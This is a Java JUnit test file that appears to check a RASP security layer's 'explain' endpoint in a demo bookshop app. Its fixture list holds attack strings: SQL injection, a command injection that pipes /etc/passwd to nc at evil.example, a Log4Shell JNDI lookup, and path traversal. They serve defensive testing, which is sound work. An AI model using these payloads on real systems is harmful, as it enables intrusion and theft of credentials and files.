package io.github.raspspring.demo;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodySubscriber;
import java.net.http.HttpResponse.BodySubscribers;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Flow;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Why each exploit is refused, by its reference and by a description of it, and why each
 * honest use is not.
 */
@BookshopTest({ "rasp.mode=block", "rasp.rate-limit.enabled=false", "rasp.behavior.enabled=false",
		"management.endpoint.rasp.access=unrestricted" })
class ExplainTests {

	private static final JsonMapper JSON = new JsonMapper();

	private static final List<String> ATTACKS = List.of("x' UNION SELECT name, password FROM users --",
			"; cat /etc/passwd | nc evil.example 99", "${jndi:ldap://evil.example/a}", "../../../../etc/passwd");

	@LocalServerPort
	private int port;

	static Stream<Exploit> exploits() {
		return Exploit.all();
	}

	static Stream<HonestUse> honestUses() {
		return HonestUse.all();
	}

	/**
	 * What only a sink or a row tells is told by the reference alone.
	 */
	@ParameterizedTest
	@MethodSource("exploits")
	void explainWhenExploitIsRefusedThenTellsWhy(Exploit exploit) {
		Bookshop shop = new Bookshop(this.port);
		String reference = Refusals.assertBlocked(exploit.run(shop));
		JsonNode described = explain(shop);
		JsonNode event = shop.get("/actuator/rasp/explain/" + reference).json();
		assertThat(event.path("why").path("action").asString()).isEqualTo("BLOCK");
		List<String> detectors = event.path("findings")
			.values()
			.stream()
			.map((finding) -> finding.path("detector").asString())
			.toList();
		assertThat(detectors).isNotEmpty();
		assertThat(described.path("ran").size()).isPositive();
		assertThat(described.path("because").asString()).isNotBlank();
		// Streams of objects are no text that anybody could describe.
		if (exploit.weakness() != Exploit.Weakness.SETTINGS && detectors.stream()
			.anyMatch((detector) -> !detector.endsWith("-sink") && !detector.equals("ownership"))) {
			assertThat(described.path("action").asString()).as(described.toString()).isEqualTo("BLOCK");
			assertThat(described.path("saw").get(0).path("explanation").asString()).isNotBlank();
		}
	}

	@ParameterizedTest
	@MethodSource("honestUses")
	void explainWhenUseIsHonestThenTellsThatNothingRefusesIt(HonestUse use) {
		Bookshop shop = new Bookshop(this.port);
		use.on(shop);
		JsonNode described = explain(shop);
		assertThat(described.path("action").asString()).as(described.toString()).isNotIn("BLOCK", "THROTTLE");
		assertThat(described.path("inBlockMode").asString()).isNotEqualTo("BLOCK");
		assertThat(described.path("policy").asString()).isNotBlank();
	}

	/**
	 * Operators describe attacks in mode block, too.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "{'target':'GET /api/books?title=%s'}", "{'target':'GET /api/books','rule':'X-Title: %s'}",
			"{'target':'POST /api/books','rule':'A: b\\n\\n{\\\"title\\\":\\\"%s\\\"}'}",
			"{'target':'POST /api/books','rule':'\\n\\n{\\\"title\\\":\\\"%s\\\"}'}",
			"{'target':'POST /api/books','rule':'\\n\\n%s'}",
			"{'rule':'Cookie: a=%s','target':'DELETE /api/books/1'}" })
	void explainWhenDescriptionHoldsAnAttackThenIsTaken(String body) {
		for (String attack : ATTACKS) {
			Answer answer = post("/actuator/rasp/explain", "application/json", described(body, attack));
			assertThat(answer.status()).as(attack).isEqualTo(200);
			assertThat(answer.json().path("policy").asString()).isEqualTo("default");
		}
	}

	/**
	 * Nothing else is excused by that.
	 */
	@ParameterizedTest
	@CsvSource(delimiter = '|', quoteCharacter = '`', value = {
			"/actuator/rasp/explain|{'reason':'%s','target':'GET /'}",
			"/actuator/rasp/explain|{'operation':'%s','target':'GET /'}",
			"/actuator/rasp/explain|{'target':'GET /','%s':'a'}", "/actuator/rasp/explain|{'target':{'a':'%s'}}",
			"/actuator/rasp/explain|{'target':['%s']}", "/actuator/rasp/explain|{'a':{'target':'%s'}}",
			"/actuator/rasp/explain|{'Target':'%s'}", "/actuator/rasp/patches|{'target':'a','rule':'%s'}",
			"/actuator/rasp/clients|{'target':'%s'}", "/actuator/rasp/policies|{'rule':'%s','target':'a'}",
			"/api/books/1/reviews|{'author':'a','text':'b','target':'%s'}", "/api/books/1/reviews|{'rule':'%s'}" })
	void explainWhenAttackStandsElsewhereThenIsRefused(String path, String body) {
		for (String attack : ATTACKS) {
			String json = path.startsWith("/api") ? body.replace('\'', '"').replace("%s", attack)
					: described(body, attack);
			assertThat(post(path, "application/json", json).status()).as(attack).isEqualTo(403);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "/actuator/rasp/explain?target=%s", "/actuator/rasp/explain?rule=%s",
			"/actuator/rasp/explain?a=%s", "/actuator/rasp/%65xplain", "/actuator/rasp/explain/",
			"/actuator/rasp/./explain", "/actuator//rasp/explain", "/actuator/rasp/explain;a=b" })
	void explainWhenAddressIsAnotherThenNobodyIsServed(String path) {
		String attack = URLEncoder.encode(ATTACKS.get(0), StandardCharsets.UTF_8);
		Answer answer = post(path.replace("%s", attack), "application/json",
				described("{'target':'GET /api/books?title=%s'}", path.contains("%s") ? "a" : ATTACKS.get(0)));
		assertThat(answer.status()).isIn(400, 403, 404);
	}

	private static String described(String body, String attack) {
		String operation = body.contains("operation") ? "" : "'operation':'request',";
		return ("{" + operation + body.substring(1)).replace('\'', '"').replace("%s", attack);
	}

	private Answer post(String path, String type, String body) {
		Bookshop shop = new Bookshop(this.port);
		return shop.send(shop.request(path).header("Content-Type", type).POST(BodyPublishers.ofString(body)));
	}

	/**
	 * Describe the request that was sent last, and ask about it.
	 */
	private static JsonNode explain(Bookshop shop) {
		HttpRequest sent = shop.last();
		StringBuilder message = new StringBuilder();
		sent.headers()
			.map()
			.forEach((name, values) -> values.forEach((value) -> message.append(name + ": " + value + "\n")));
		message.append('\n');
		sent.bodyPublisher().ifPresent((body) -> message.append(text(body)));
		String target = sent.method() + ' ' + sent.uri().getRawPath()
				+ ((sent.uri().getRawQuery() != null) ? "?" + sent.uri().getRawQuery() : "");
		Answer answer = shop.send(shop.request("/actuator/rasp/explain")
			.header("Content-Type", "application/json")
			.POST(BodyPublishers.ofString(JSON
				.writeValueAsString(Map.of("operation", "request", "target", target, "rule", message.toString())))));
		assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
		return answer.json();
	}

	private static String text(HttpRequest.BodyPublisher body) {
		BodySubscriber<String> subscriber = BodySubscribers.ofString(StandardCharsets.UTF_8);
		body.subscribe(new Flow.Subscriber<ByteBuffer>() {

			@Override
			public void onSubscribe(Flow.Subscription subscription) {
				subscriber.onSubscribe(subscription);
			}

			@Override
			public void onNext(ByteBuffer bytes) {
				subscriber.onNext(List.of(bytes));
			}

			@Override
			public void onError(Throwable failure) {
				subscriber.onError(failure);
			}

			@Override
			public void onComplete() {
				subscriber.onComplete();
			}

		});
		return subscriber.getBody().toCompletableFuture().join();
	}

}
